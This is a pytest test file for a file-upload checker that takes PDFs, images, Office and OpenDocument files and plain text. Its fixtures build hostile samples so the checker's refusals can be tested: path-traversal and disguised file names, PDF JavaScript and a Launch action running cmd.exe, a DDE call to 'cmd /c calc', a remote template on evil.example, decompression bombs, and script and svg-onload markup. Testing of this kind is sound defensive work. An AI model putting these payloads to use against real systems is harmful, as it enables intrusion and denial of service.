"""Which files are taken as evidence, and what is taken out of them first."""

from __future__ import annotations

import contextlib
import random
import struct
import unicodedata
import zipfile
import zlib
from io import BytesIO

import openpyxl
import pikepdf
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as some
from PIL import Image

from assessment.uploads.checking import accept
from assessment.uploads.file_names import LONGEST_NAME
from assessment.uploads.limits import LARGEST
from assessment.uploads.refusals import UploadRefused

OFFICE = "application/vnd.openxmlformats-officedocument."
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def refused(name, content):
    with pytest.raises(UploadRefused) as caught:
        accept(name, content)
    text = str(caught.value)
    assert text.startswith("This file ")
    assert text.endswith(".")
    return text


# Files made here


def picture(kind, size=(8, 6), mode="RGB", colour=0, **more):
    file = BytesIO()
    Image.new(mode, size, colour).save(file, kind, **more)
    return file.getvalue()


def noise(kind, size, **more):
    file = BytesIO()
    Image.frombytes("RGB", size, random.Random(1).randbytes(size[0] * size[1] * 3)).save(file, kind, **more)  # noqa: S311
    return file.getvalue()


def with_notes(**more):
    notes = Image.Exif()
    notes[0x010F] = "Camera of Alex"
    notes.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.5)})
    for tag, value in more.items():
        notes[{"orientation": 0x0112}[tag]] = value
    return notes


def opened(content):
    with Image.open(BytesIO(content)) as image:
        image.load()
        return image


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pdf(*objects, trailer=b"/Root 1 0 R"):
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, text) for number, text in enumerate(objects, start=4))
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
        + body
        + b"trailer\n<<"
        + trailer
        + b">>\nstartxref\n0\n%%EOF\n"
    )


def stream(text, head=b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", pack=zlib.compress):
    packed = pack(text)
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (head, len(packed), packed)


def folder(parts, how=zipfile.ZIP_DEFLATED):
    file = BytesIO()
    with zipfile.ZipFile(file, "w", how) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return file.getvalue()


TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'


def word(parts=None, main="word", **more):
    return folder({"[Content_Types].xml": TYPES.format(""), f"{main}/document.xml": "<d/>", **(parts or {})}, **more)


def open_document(parts=None, kind="text"):
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    manifest = "<manifest:manifest/>"
    return folder({"mimetype": mimetype, "META-INF/manifest.xml": manifest, "content.xml": "<c/>", **(parts or {})})


def links(kind, target, mode="External", base=RELATIONSHIP):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def workbook():
    file = BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as made:
        sheet = made.add_worksheet()
        sheet.write(0, 0, "Training held")
        sheet.write_url(1, 0, "https://example.org/")
        sheet.insert_image(2, 0, "chart.png", {"image_data": BytesIO(picture("PNG"))})
    return file.getvalue()


def other_workbook():
    made, file = openpyxl.Workbook(), BytesIO()
    made.active["A1"] = "Training held"
    made.save(file)
    return file.getvalue()


# What is taken


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("a.pdf", pdf(), "application/pdf"),
        ("a.png", picture("PNG"), "image/png"),
        ("a.jpg", picture("JPEG"), "image/jpeg"),
        ("a.jpeg", picture("JPEG"), "image/jpeg"),
        ("a.docx", word(), f"{OFFICE}wordprocessingml.document"),
        ("a.xlsx", workbook(), f"{OFFICE}spreadsheetml.sheet"),
        ("a.xlsx", other_workbook(), f"{OFFICE}spreadsheetml.sheet"),
        ("a.pptx", word(main="ppt"), f"{OFFICE}presentationml.presentation"),
        ("a.odt", open_document(), "application/vnd.oasis.opendocument.text"),
        ("a.ods", open_document(kind="spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
        ("a.txt", "Grüße\r\n\tund mehr".encode(), "text/plain"),
        ("a.csv", "\ufeffname;number\nשלום;1\n".encode(), "text/csv"),
    ],
)
def test_ordinary_files_are_taken(name, content, media_type):
    taken = accept(name, content)
    assert (taken.name, taken.media_type) == (name, media_type)
    if not media_type.startswith("image/"):
        assert taken.content == content


def test_an_empty_file_is_refused():
    assert "is empty" in refused("a.pdf", b"")


def test_a_file_may_have_five_megabytes_and_not_a_byte_more():
    accept("a.txt", b"a" * LARGEST)
    assert "larger than 5 MB" in refused("a.txt", b"a" * (LARGEST + 1))


ORDINARY = {
    "pdf": pdf(),
    "png": picture("PNG"),
    "jpg": picture("JPEG"),
    "docx": word(),
    "xlsx": workbook(),
    "pptx": word(main="ppt"),
    "odt": open_document(),
    "ods": open_document(kind="spreadsheet"),
}


@pytest.mark.parametrize("ending", [*ORDINARY, "txt", "csv"])
@pytest.mark.parametrize("kind", ORDINARY)
def test_the_ending_must_say_what_the_file_holds(ending, kind):
    if ending != kind:
        assert f"ends in .{ending}, but holds something else" in refused(f"a.{ending}", ORDINARY[kind])


def test_text_does_not_pass_for_anything_else():
    for ending in ORDINARY:
        assert "holds something else" in refused(f"a.{ending}", b"Only text")


@pytest.mark.parametrize("ending", ["exe", "html", "svg", "zip", "doc", "docm", "xlsm", "gif", "js", "", "p"])
def test_other_kinds_are_refused_with_a_list_of_those_that_are_taken(ending):
    assert "pdf, png, jpg" in refused(f"a.{ending}", b"MZ")


# Names


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\Windows\\win.txt", "win.txt"),
        ("C:\\Users\\Alex\\Minutes.TXT", "Minutes.txt"),
        ("C:notes.txt", "C-notes.txt"),
        ("Cafe\u0301.txt", "Café.txt"),
        ("a\u202etxt.b\u200f.txt", "atxt.b.txt"),
        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie- x.txt"),
        ("  .hidden  notes . txt", "hidden notes.txt"),
        ('a<b>"c"|d?*.txt', "a-b--c--d--.txt"),
        ("con.txt", "_con.txt"),
        ("Aux.2026.txt", "_Aux.2026.txt"),
        ("lpt¹.txt", "_lpt¹.txt"),
        ("console.txt", "console.txt"),
        ("report.docx.txt", "report.docx.txt"),
        ("Minutes 12.03.2026.txt", "Minutes 12.03.2026.txt"),
        ("www.example.com.txt", "www.example.com.txt"),
        ("\ud800a.txt", "a.txt"),
    ],
)
def test_names_are_made_safe(given_name, kept):
    assert accept(given_name, b"text").name == kept


@pytest.mark.parametrize(
    "name",
    [
        "",
        ".",
        "..",
        "/",
        "a.txt/",
        ".txt",
        "\u202e.txt",
        "invoice.pdf.exe",
        "invoice.exe.pdf",
        "invoice.EXE .txt",
        "a.php.txt",
        "invoice\u202efdp.exe",
        "a.txt\0.exe",
        "a.exe\0.txt",
    ],
)
def test_names_that_hide_what_they_are_are_refused(name):
    assert "of a kind that is not taken" in refused(name, b"text")


def test_long_names_are_cut_and_keep_their_ending():
    name = accept("a" * 5000 + ".txt", b"text").name
    assert name == "a" * (LONGEST_NAME - 4) + ".txt"


@given(some.text())
def test_every_name_that_is_kept_is_safe(text):
    try:
        name = accept(f"{text}.txt", b"text").name
    except UploadRefused:
        return
    assert 5 <= len(name) <= LONGEST_NAME
    assert name == unicodedata.normalize("NFC", name)
    assert not set('/\\<>:"|?*') & set(name)
    assert not [one for one in name if unicodedata.category(one) in {"Cc", "Cf", "Cs"}]


# Pictures


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_nothing_but_pixels_stays_of_a_picture(kind):
    more = {"comment": b"secret words"} if kind == "JPEG" else {}
    content = picture(kind, exif=with_notes(), icc_profile=b"secret profile", dpi=(300, 300), **more)
    assert opened(content).getexif().get_ifd(0x8825)
    taken = accept(f"a.{kind.lower().replace('jpeg', 'jpg')}", content + b"<script>alert(1)</script>PK\x05\x06").content
    assert not dict(opened(taken).getexif())
    assert not {"exif", "icc_profile", "comment", "xmp"} & set(opened(taken).info)
    for trace in (b"Exif", b"eXIf", b"Camera of Alex", b"secret", b"<script", b"PK\x05\x06"):
        assert trace not in taken


@pytest.mark.parametrize(("orientation", "size"), [(1, (8, 6)), (3, (8, 6)), (6, (6, 8)), (8, (6, 8)), (99, (8, 6))])
@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_pictures_are_put_the_right_way_up(kind, orientation, size):
    content = picture(kind, exif=with_notes(orientation=orientation))
    taken = opened(accept("a.png" if kind == "PNG" else "a.jpg", content).content)
    assert (taken.size, taken.format) == (size, kind)


def test_a_turned_picture_shows_the_same():
    image, file = Image.new("RGB", (64, 32), "white"), BytesIO()
    image.paste("red", (0, 0, 32, 32))
    image.save(file, "JPEG", exif=with_notes(orientation=6))
    taken = opened(accept("a.jpg", file.getvalue()).content)
    assert taken.size == (32, 64)
    assert taken.getpixel((16, 8))[1] < 60
    assert taken.getpixel((16, 56))[1] > 200


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data")
def test_damaged_notes_do_not_keep_a_picture_out():
    assert accept("a.jpg", picture("JPEG", exif=b"Exif\0\0MM\0*\xff\xff\xff\xff")).media_type == "image/jpeg"


@pytest.mark.parametrize(
    ("mode", "colour", "more", "kept"),
    [
        ("1", 1, {}, "1"),
        ("L", 7, {}, "L"),
        ("LA", (7, 9), {}, "LA"),
        ("P", 0, {}, "P"),
        ("P", 0, {"transparency": 0}, "RGBA"),
        ("RGB", (1, 2, 3), {"transparency": (1, 2, 3)}, "RGBA"),
        ("RGBA", (1, 2, 3, 4), {}, "RGBA"),
        ("I;16", 700, {}, "I;16"),
    ],
)
def test_a_png_of_any_colours_looks_the_same_afterwards(mode, colour, more, kept):
    content = picture("PNG", mode=mode, colour=colour, **more)
    taken = opened(accept("a.png", content).content)
    assert taken.mode == kept
    if mode != "I;16":
        assert taken.convert("RGBA").tobytes() == opened(content).convert("RGBA").tobytes()


@pytest.mark.parametrize(("mode", "kept"), [("L", "L"), ("RGB", "RGB"), ("CMYK", "RGB")])
def test_a_jpeg_for_printing_becomes_one_for_screens(mode, kept):
    assert opened(accept("a.jpg", picture("JPEG", mode=mode)).content).mode == kept


def test_of_an_animated_picture_the_first_frame_stays():
    frames, file = [Image.new("RGB", (8, 6), colour) for colour in ("red", "blue")], BytesIO()
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    taken = accept("a.png", file.getvalue()).content
    assert b"acTL" not in taken
    assert opened(taken).getpixel((0, 0)) == (255, 0, 0)


@pytest.mark.parametrize(("size", "taken"), [((8000, 5000), True), ((8000, 5001), False), ((65000, 65000), False)])
def test_pictures_have_at_most_forty_million_pixels(size, taken):
    rows = zlib.compress(bytes((size[0] // 8 + 1) * size[1])) if taken else b""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 1, 0, 0, 0, 0))
    content = b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    if taken:
        assert opened(accept("a.png", content).content).size == size
    else:
        assert "40 million pixels" in refused("a.png", content)


def test_a_large_jpeg_is_refused_before_it_is_unpacked():
    content = picture("JPEG")
    at = content.index(b"\xff\xc0") + 5
    assert "40 million pixels" in refused("a.jpg", content[:at] + b"\xff\xff\xff\xff" + content[at + 4 :])


@pytest.mark.parametrize("part", [0.02, 0.5, 0.9, 0.99])
@pytest.mark.parametrize(("name", "kind"), [("a.png", "PNG"), ("a.jpg", "JPEG")])
def test_truncated_pictures_are_refused(name, kind, part):
    content = noise(kind, (120, 90))
    assert "damaged or not complete" in refused(name, content[: int(len(content) * part)])


def test_a_picture_that_grows_too_large_is_refused():
    content = noise("JPEG", (4000, 3300), quality=20)
    assert len(content) < LARGEST
    assert "more than 5 MB" in refused("a.jpg", content)


def test_pictures_made_to_take_long_are_refused():
    content = picture("JPEG")
    notes = b"\xff\xe1\x00\x12Exif\0\0" + b"x" * 10
    assert "takes too long" in refused("a.jpg", content[:2] + notes * 5000 + content[2:])
    assert "takes too long" in refused("a.jpg", content + b"\xff\xda" * 5000)


def test_a_text_that_unpacks_to_too_much_does_not_pass_in_a_picture():
    bomb = chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(60_000_000)))
    content = picture("PNG")
    assert "damaged" in refused("a.png", content[:33] + bomb + content[33:])


# PDF


@pytest.mark.parametrize(
    "text",
    [
        b"<</S/JavaScript/JS(app.alert(1))>>",
        b"<</S /JavaScript /JS 9 0 R>>",
        b"<</S/Rendition/JS<feff>>>",
        b"<</S/Rendition/JS%x\n(x)>>",
        b"<</OpenAction<</S/JavaScript>>>>",
        b"<</S/J#61vaScript>>",
        b"<</S/#4a#61#76#61#53#63#72#69#70#74>>",
        b"<</S/R/#4aS (x)>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</S/L#61unch>>",
        b"<</Type/EmbeddedFile>>",
        b"<</Names<</EmbeddedFiles 9 0 R>>>>",
        b"<</Type/Filespec/EF<</F 9 0 R>>>>",
        b"<</AcroForm<</XFA[]>>>>",
        b"<</Subtype/RichMedia>>",
    ],
)
def test_a_pdf_that_acts_is_refused_wherever_it_says_so(text):
    for content in (
        pdf(text),
        pdf(b"<<>>\nstream\n" + text + b"\nendstream"),
        pdf(stream(b"7 0 " + text)),
        pdf(stream(b"7 0 " + text, head=b"/Filter/FlateDecode")),
        pdf(stream(text, head=b"/Type/Obj#53tm/Filter/FlateDecode")),
        pdf(stream(b" " * 90 + b"7 0 " + text)),
        pdf(stream(b"7 0 " + text)).replace(b"stream\n", b"stream\r\n"),
        pdf(stream(b"7 0 " + random.Random(1).randbytes(90_000) + text)),  # noqa: S311
        pdf(stream(b"BT ET", head=b"/Filter/FlateDecode"), stream(b"7 0 " + text)),
    ):
        assert "holds scripts" in refused("a.pdf", content)


@pytest.mark.parametrize(
    "text", [b"/JSx(", b"/JS1", b"/Launcher", b"/EncryptMetadata true", b"/XFAx", b"/EF/F1", b"(JavaScript)"]
)
def test_names_that_only_begin_alike_do_no_harm(text):
    accept("a.pdf", pdf(b"<<" + text + b">>"))


def test_a_locked_pdf_is_refused_as_such():
    assert "is locked" in refused("a.pdf", pdf(trailer=b"/Root 1 0 R/Encrypt 5 0 R"))


@pytest.mark.parametrize(
    "head", [b"/Filter/LZWDecode", b"/Filter[/AHx/Fl]", b"/Filter 9 0 R", b"/Filter/Fl/DecodeParms<<>>"]
)
def test_objects_packed_in_unusual_ways_are_refused(head):
    assert "cannot be looked into" in refused("a.pdf", pdf(stream(b"7 0 x", head=b"/Type/ObjStm" + head)))


def test_a_pdf_may_hold_pictures_that_unpack_to_a_lot_but_not_objects():
    many = [stream(b"\xff" * 40_000_000, head=b"/Subtype/Image/Filter/FlateDecode")] * 4
    accept("a.pdf", pdf(*many))
    many = [stream(b"7 0 " + bytes(40_000_000))] * 4
    assert "unpacks to far more" in refused("a.pdf", pdf(*many))


def test_streams_inside_one_another_are_not_read_again_and_again():
    start = b"/ObjStm stream\n\x78\x9c"
    block = b"\0" + struct.pack("<HH", len(start), 0xFFFF - len(start)) + start
    assert "unpacks to far more" in refused("a.pdf", pdf(start + block * 150_000))


@pytest.mark.parametrize("content", [pdf()[:-7], pdf() + bytes(1100), b"%PDF-1.7"])
def test_a_pdf_without_its_end_is_refused(content):
    assert "damaged or not complete" in refused("a.pdf", content)


def test_a_pdf_may_begin_a_little_later_but_not_anywhere():
    accept("a.pdf", b"\xef\xbb\xbf\r\n" + pdf())
    assert "holds something else" in refused("a.pdf", b" " * 1024 + pdf())


@pytest.mark.parametrize(
    "content",
    [b"<html><script>alert(1)</script>" + pdf(), pdf()[:-6] + word() + b"%%EOF", pdf() + folder({"a": "b"})],
)
def test_a_pdf_that_is_something_else_too_is_refused(content):
    assert "something else at once" in refused("a.pdf", content)


@pytest.mark.parametrize("ending", ["docx", "txt", "png"])
def test_a_pdf_inside_another_file_does_not_pass(ending):
    assert "holds something else" in refused(f"a.{ending}", folder({"a": pdf()}, how=zipfile.ZIP_STORED))


@pytest.mark.parametrize("mode", list(pikepdf.ObjectStreamMode.__members__.values()))
def test_files_of_a_common_pdf_writer_are_seen_through(mode):
    with pikepdf.new() as made:
        made.add_blank_page()
        file = BytesIO()
        made.save(file, object_stream_mode=mode)
        accept("a.pdf", file.getvalue())
        made.Root.OpenAction = made.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )
        file = BytesIO()
        made.save(file, object_stream_mode=mode)
        assert "holds scripts" in refused("a.pdf", file.getvalue())
        del made.Root.OpenAction
        file = BytesIO()
        made.save(file, object_stream_mode=mode, encryption=pikepdf.Encryption(owner="x", user=""))
        assert "is locked" in refused("a.pdf", file.getvalue())


# Office files


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/VBAPROJECT.BIN",
        "word\\vbaData.xml",
        "word/embeddings/oleObject1.bin",
        "word/embeddings/other.bin",
        "word/embeddings/run.js",
        "word/activeX/activeX1.xml",
        "word/macrosheets/sheet1.xml",
    ],
)
def test_office_files_with_macros_or_embedded_objects_are_refused(name):
    assert "holds macros" in refused("a.docx", word({name: b"data"}))


@pytest.mark.parametrize("data", [OLE, b"MZ\x90\0"])
def test_macros_and_programs_are_known_under_any_name(data):
    assert "holds macros" in refused("a.docx", word({"word/media/image1.png": data}))
    assert "holds macros" in refused("a.odt", open_document({"Object 1": data}))


@pytest.mark.parametrize("name", ["Basic/Standard/Module1.xml", "Scripts/python/a.py", "Object 1/Basic/a.xml"])
def test_open_documents_with_macros_are_refused(name):
    assert "holds macros" in refused("a.odt", open_document({name: "x"}))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("content.xml", '<a xlink:href="vnd.sun.star.script:x.py$y?language=Python"/>'),
        ("content.xml", '<office:dde-source office:dde-application="cmd"/>'),
        ("content.xml", '<a xlink:href="vnd.sun.star.script:x.py$y"/>'.encode("utf-16")),
    ],
)
def test_open_documents_that_call_scripts_are_refused(name, text):
    assert "links that act" in refused("a.odt", open_document({name: text}))


def test_a_workbook_that_calls_a_program_is_refused():
    call = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert "links that act" in refused("a.xlsx", word({"xl/externalLinks/externalLink1.xml": call}, main="xl"))


def test_locked_open_documents_are_refused():
    manifest = "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    assert "is locked" in refused("a.odt", open_document({"META-INF/manifest.xml": manifest}))


@pytest.mark.parametrize("main", ["word", "xl", "ppt"])
@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk"])
def test_what_would_be_fetched_when_the_file_is_opened_is_refused(main, kind):
    parts = {f"{main}/_rels/settings.xml.rels": links(kind, "https://evil.example/a.dotm")}
    ending = {"word": "docx", "xl": "xlsx", "ppt": "pptx"}[main]
    assert "Save it as a PDF" in refused(f"a.{ending}", word(parts, main=main))


@pytest.mark.parametrize(
    "text",
    [
        links("attachedTemplate", "x", mode="&#69;xternal"),
        links("attached&#84;emplate", "x").replace('"', "'"),
        links("attachedTemplate", "x", base="http://purl.oclc.org/ooxml/officeDocument/relationships"),
        links("attachedTemplate", "x").encode("utf-16"),
    ],
)
def test_writing_it_differently_does_not_help(text):
    assert "tied to a template" in refused("a.docx", word({"word/_rels/settings.xml.rels": text}))


@pytest.mark.parametrize("text", ['<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "<a>", ""])
def test_links_that_cannot_be_read_plainly_are_refused(text):
    assert "is damaged" in refused("a.docx", word({"word/_rels/document.xml.rels": text}))


def test_ordinary_links_are_fine():
    accept("a.docx", word({"word/_rels/document.xml.rels": links("hyperlink", "https://example.org/oleObject")}))
    accept("a.docx", word({"word/_rels/document.xml.rels": links("image", "media/image1.png", mode="Internal")}))


@pytest.mark.parametrize(
    "kind", ["application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject"]
)
def test_content_types_of_macros_are_refused(kind):
    types = TYPES.format(f'<Override PartName="/word/document.xml" ContentType="{kind}"/>')
    assert "holds macros" in refused("a.docx", word({"[Content_Types].xml": types}))


def test_a_workbook_behind_a_chart_is_looked_into_as_well():
    place = "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx"
    accept("a.pptx", word({"ppt/embeddings/": "", place: workbook()}, main="ppt"))
    inner = word({"xl/vbaProject.bin": OLE}, main="xl")
    assert "holds macros" in refused("a.pptx", word({place: inner}, main="ppt"))
    assert "holds macros" in refused("a.pptx", word({place: folder({"run.js": "x"})}, main="ppt"))


def test_files_in_files_in_files_end_somewhere():
    content = word()
    for _ in range(5):
        content = word({"word/embeddings/a.docx": content})
    assert "holds macros" in refused("a.docx", content)


@pytest.mark.parametrize(
    "name", ["/word/a.xml", "../a.xml", "word/../../a.xml", "word\\..\\a.xml", "C:\\a.xml", "\\\\a\\b"]
)
def test_parts_that_lead_out_of_the_file_are_refused(name):
    assert "is damaged" in refused("a.docx", word({name: "x"}))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_parts_that_stand_twice_are_refused():
    assert "is damaged" in refused("a.docx", word({"WORD/document.xml": "x"}))


@pytest.mark.parametrize("parts", [{}, {"xl/workbook.xml": "x", "word/document.xml": "x"}, {"a": "b"}])
def test_without_the_marks_of_one_office_file_it_is_none(parts):
    for more in ({}, {"[Content_Types].xml": TYPES.format("")}):
        if content := folder({**more, **parts}):
            assert "holds something else" in refused("a.docx", content)
    assert "holds something else" in refused("a.odt", folder({"mimetype": "application/zip", **parts}))
    assert "holds something else" in refused("a.docx", folder({"word/document.xml": "x"}))


def test_a_bomb_is_not_unpacked():
    assert "unpacks to far more" in refused("a.docx", word({"word/a.xml": bytes(101 * 1024 * 1024)}))
    assert "unpacks to far more" in refused("a.docx", word({"word/a.xml": bytes(1024 * 1024)}))


def test_a_bomb_that_claims_to_be_small_does_not_pass():
    content = bytearray(word({"word/z.xml": bytes(5_000_000)}))
    size = struct.pack("<I", 5_000_000)
    assert content.count(size) == 2
    content = content.replace(size, struct.pack("<I", 100))
    assert "is damaged" in refused("a.docx", bytes(content))
    padded = {"word/y.bin": random.Random(1).randbytes(50_000), "word/z.xml": bytes(5_000_000)}  # noqa: S311
    content = word(padded).replace(size, struct.pack("<I", 100))
    assert "is damaged" in refused("a.docx", content)


def test_a_bomb_inside_an_embedded_file_does_not_pass():
    inner = word({"xl/a.xml": bytes(90_000_000)}, main="xl")
    filling = random.Random(1).randbytes(3_000_000)  # noqa: S311
    content = word({"word/a.bin": filling, "word/embeddings/a.xlsx": inner, "word/embeddings/b.xlsx": inner})
    assert "unpacks to far more" in refused("a.docx", content)


def test_a_file_of_too_many_parts_is_refused():
    assert "unpacks to far more" in refused("a.docx", word({f"word/{number}": "" for number in range(2000)}))


def test_a_locked_part_is_refused():
    content = bytearray(word())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert "is locked" in refused("a.docx", bytes(content))


def test_parts_packed_in_other_ways_or_over_one_another_are_refused():
    assert "is damaged" in refused("a.docx", word(how=zipfile.ZIP_LZMA))
    content = word({"word/a": random.Random(1).randbytes(1000), "word/b": "x"})  # noqa: S311
    at = content.index(b"PK\x01\x02", content.index(b"word/b", content.index(b"PK\x01\x02")) - 50) + 20
    assert "is damaged" in refused("a.docx", content[:at] + struct.pack("<I", 9_999) + content[at + 4 :])


def test_one_folder_put_behind_another_is_refused():
    assert "is damaged" in refused("a.docx", folder({"run.js": "x"}) + word())


@pytest.mark.parametrize("part", [0.1, 0.5, 0.99])
@pytest.mark.parametrize(("name", "content"), [("a.docx", word()), ("a.xlsx", workbook()), ("a.odt", open_document())])
def test_truncated_office_files_are_refused(name, content, part):
    assert "is damaged" in refused(name, content[: int(len(content) * part)])


# Text


@pytest.mark.parametrize(
    "content", [b"a\0b", b"a\x1b[2Jb", b"a\x7fb", "a\x85b".encode(), b"\xff\xfea\0", b"\xe4", b"MZ\x90\0"]
)
def test_what_is_no_plain_text_is_refused(content):
    assert "no plain text in UTF-8" in refused("a.txt", content)


@pytest.mark.parametrize(
    "text",
    ["<html>", "<SCRIPT>", "\ufeff \n<?xml version='1.0'?>", "<svg", "<svg/onload=x>", "<!DOCTYPE html>", "<!-- -->"],
)
def test_pages_do_not_pass_as_text(text):
    assert "a web page or a drawing" in refused("a.csv", text.encode())
    assert "a web page or a drawing" in refused("a.txt", text.encode())


@pytest.mark.parametrize("text", ["<alex@example.org> wrote", "< 5 people", "a <b> c", "=SUM(A1:A2)"])
def test_other_signs_in_text_are_fine(text):
    accept("a.txt", text.encode())


# Anything at all

NAMES = some.sampled_from([f"a.{ending}" for ending in (*ORDINARY, "jpeg", "txt", "csv")])
STARTS = some.sampled_from(
    [b"", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04", b"%PDF-1.7\n", *ORDINARY.values()]
)


@given(some.one_of(some.text(), NAMES), some.binary())
def test_whatever_is_sent_is_taken_or_refused(name, content):
    with contextlib.suppress(UploadRefused):
        accept(name, content)


@settings(deadline=None)
@given(NAMES, STARTS, some.binary(), some.binary())
def test_whatever_follows_a_known_beginning_is_taken_or_refused(name, start, more, end):
    for content in (start + more, start + more + b"\n%%EOF" + end):
        with contextlib.suppress(UploadRefused):
            accept(name, content)


@settings(deadline=None)
@given(some.sampled_from(sorted(ORDINARY)), some.data())
def test_a_file_with_some_bytes_changed_is_taken_or_refused(ending, data):
    content = bytearray(ORDINARY[ending])
    for at in data.draw(some.lists(some.integers(0, len(content) - 1), max_size=5)):
        content[at] = data.draw(some.integers(0, 255))
    with contextlib.suppress(UploadRefused):
        accept(f"a.{ending}", bytes(content))
